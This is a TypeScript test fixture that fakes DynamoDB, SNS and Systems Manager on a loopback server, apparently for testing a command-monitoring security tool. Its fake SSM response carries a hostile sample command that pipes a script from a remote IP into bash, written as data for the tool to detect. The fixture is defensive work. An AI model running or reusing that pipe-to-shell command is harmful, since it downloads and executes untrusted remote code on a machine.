import { startLoopbackServer } from '../../emulators/loopback-server'
import { recognizeCall } from '../../emulators/service-call'
import { jsonAnswer, jsonError, queryResult, writeAnswer, type WireAnswer } from '../../emulators/wire-answer'
import { fakeTable, type TableInput } from './fake-table'

/** One call of a service, as it came in. */
export interface SeenCall {
  readonly operation: string
  /** Milliseconds since the epoch, with fractions, comparable over processes. */
  readonly at: number
}

export interface FakeServices {
  readonly endpoint: string
  /** Environment by which the SDK finds everything here. */
  readonly environment: Readonly<Record<string, string>>
  readonly calls: SeenCall[]
  readonly stop: () => Promise<void>
}

export const wallTime = (): number => performance.timeOrigin + performance.now()

const SCRIPT = 'curl -s http://203.0.113.9/setup.sh | bash'

/**
 * DynamoDB, SNS and Systems Manager on one loopback address, as quick as a program can be: every command that is asked for exists, every
 * publication is taken.
 */
export const startFakeServices = async (): Promise<FakeServices> => {
  const table = fakeTable()
  const calls: SeenCall[] = []

  const serve = (service: string, operation: string, body: Buffer): WireAnswer => {
    if (service === 'sns') return queryResult('Publish', '<MessageId>00000000-0000-0000-0000-000000000001</MessageId>')
    const input = JSON.parse(body.toString('utf8')) as TableInput & { readonly CommandId?: string }
    if (service === 'dynamodb') {
      const answer = table.perform(operation, input)
      return answer.ok ? jsonAnswer(200, answer.value) : jsonError('com.amazonaws.dynamodb.v20120810#ConditionalCheckFailedException', 'The conditional request failed')
    }
    return jsonAnswer(200, { Commands: [{ CommandId: input.CommandId, DocumentName: 'AWS-RunShellScript', Parameters: { commands: [SCRIPT] } }] })
  }

  const server = await startLoopbackServer((request, body, response) => {
    const { service, operation } = recognizeCall(request, body)
    calls.push({ operation, at: wallTime() })
    writeAnswer(response, serve(service, operation.slice(service.length + 1), body))
  })
  return {
    endpoint: server.endpoint,
    environment: {
      RUNWARDEN_TABLE: 'runwarden',
      RUNWARDEN_TOPIC_ARN: 'arn:aws:sns:us-east-1:123456789012:alerts',
      RUNWARDEN_QUARANTINE_QUEUE_URL: `${server.endpoint}/123456789012/quarantine`,
      RUNWARDEN_INSTALLED_AT: '2026-01-01T00:00:00.000Z',
      RUNWARDEN_LEARNING_DAYS: '0',
      RUNWARDEN_MAX_ALERTS_PER_HOUR: '1000',
      AWS_REGION: 'us-east-1',
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'example',
      AWS_ENDPOINT_URL: server.endpoint,
    },
    calls,
    stop: () => server.stop(),
  }
}
